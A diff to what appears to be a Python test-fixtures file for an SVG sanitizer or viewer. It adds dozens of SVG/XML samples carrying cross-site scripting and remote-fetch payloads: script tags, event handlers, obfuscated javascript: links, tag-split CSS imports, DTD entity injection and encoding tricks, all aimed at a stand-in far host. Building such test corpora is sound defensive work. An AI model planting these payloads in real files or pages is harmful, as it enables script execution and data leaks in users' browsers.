@@ -485,3 +485,66 @@ for (const name of ["attacked", "alert", "confirm", "prompt"])
   window[name] = (...told) => { window.__attacked.push(name + " " + told.join(" ") + " at " + location.href); };
 """
 """A script to run in each page before its own: gathers what an attack does when it succeeds."""
+
+# --- drawings -------------------------------------------------------------------------------------------------------
+
+_SVG = (
+    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink" '
+    'xmlns:h="http://www.w3.org/1999/xhtml" width="9" height="9">{}<rect width="9" height="9"/></svg>'
+)
+_INSIDE = (
+    f"<script>{_CALL}</script>",
+    f"<h:script>{_CALL}</h:script>",
+    f"<script href='{_URL}.js'/>",
+    f"<g onclick='{_CALL}'/><image href='x' onerror='{_CALL}'/>",
+    f"<set attributeName='onload' to='{_CALL}'/>",
+    f"<animate attributeName='l:href' to='{_URL}'/>",
+    f"<rect><animate attributeName='style' to='fill:url({_URL}.svg#a)'/></rect>",
+    f"<image href='{_URL}.png'/>",
+    f"<use href='{_URL}.svg#a'/>",
+    f"<use href='data:image/svg+xml,%3Csvg onload={_CALL}/%3E#a'/>",
+    "<image href='data:image/svg+xml,%3Csvg/%3E'/>",
+    f"<filter><feImage href='{_URL}.png'/></filter>",
+    f"<a href='javascript:{_CALL}'><rect width='9' height='9'/></a>",
+    f"<a l:href='java&#10;script:{_CALL}'><rect width='9' height='9'/></a>",
+    f"<a href='https://example.org/' ping='{_URL}'><rect width='9' height='9'/></a>",
+    f"<style>@import '{_URL}.css';</style>",
+    f"<style>@im<g>x</g>port '{_URL}.css';</style>",
+    f"<style>@im<!-- x -->port '{_URL}.css';</style>",
+    f"<style>rect{{fill:ur<g>x</g>l({_URL}.svg#a)}}</style>",
+    f"<style>rect{{fill:u\\72l({_URL}.svg#a)}}</style>",
+    f"<style>@font-face{{font-family:x;src:url({_URL}.woff)}}text{{font-family:x}}</style><text>x</text>",
+    f"<h:style>svg{{background:url({_URL}.png)}}</h:style>",
+    f"<h:link rel='stylesheet' href='{_URL}.css'/>",
+    f"<rect style='fill:url({_URL}.svg#a)'/>",
+    f"<rect fill='url({_URL}.svg#a)'/>",
+    f"<foreignObject><h:iframe src='{_URL}'/></foreignObject>",
+    f"<h:img srcset='{_URL}.png 1x'/>",
+    f"<h:picture><h:source srcset='{_URL}.png'/><h:img/></h:picture>",
+    f"<h:meta http-equiv='refresh' content='0;url={_URL}'/>",
+    f"<h:body background='{_URL}.png'/>",
+    f"<h:table background='{_URL}.png'><h:tr><h:td>a</h:td></h:tr></h:table>",
+    f"<h:form action='javascript:{_CALL}'><h:button>a</h:button></h:form>",
+    f"<h:base href='https://{FAR}/'/>",
+    f"<h:video poster='{_URL}.png'/>",
+    f"<h:input autofocus='' onfocus='{_CALL}'/>",
+)
+DRAWINGS: tuple[bytes, ...] = (
+    *(_SVG.format(inside).encode() for inside in _INSIDE),
+    _SVG.format("").replace("<svg ", f"<svg onload='{_CALL}' ").encode(),
+    f"<svg xmlns='http://www.w3.org/1999/xhtml'><body background='{_URL}.png'/></svg>".encode(),
+    f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{_CALL}</script></html>".encode(),
+    f"<html><script>{_CALL}</script></html>".encode(),
+    f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA '{_CALL}'>]>{_SVG.format('')}".encode(),
+    f"<!DOCTYPE svg [<!ENTITY a '<script>{_CALL}</script>'>]>{_SVG.format('&a;')}".encode(),
+    f"<?xml-stylesheet href='{_URL}.css'?>{_SVG.format('')}".encode(),
+    *(
+        f"<?xml version='1.0' encoding='{name}'?>{_SVG.format(_INSIDE[0])}".encode()
+        for name in ("gbk", "euc-jp", "shift_jis", "big5", "utf-7", "iso-2022-kr", "x-unknown")
+    ),
+    *(_SVG.format(_INSIDE[0]).encode(name) for name in ("utf-16", "utf-16-le", "utf-32")),
+    f"<svg xmlns='http://www.w3.org/2000/svg' x:y=''><script>{_CALL}</script></svg>".encode(),
+    f"<svg xmlns='http://www.w3.org/2000/svg' a='1' a='2'><script>{_CALL}</script></svg>".encode(),
+    f"{_SVG.format(_INSIDE[0])}<".encode(),
+)
+"""Drawings that do more than be looked at, when somebody opens the file by itself."""
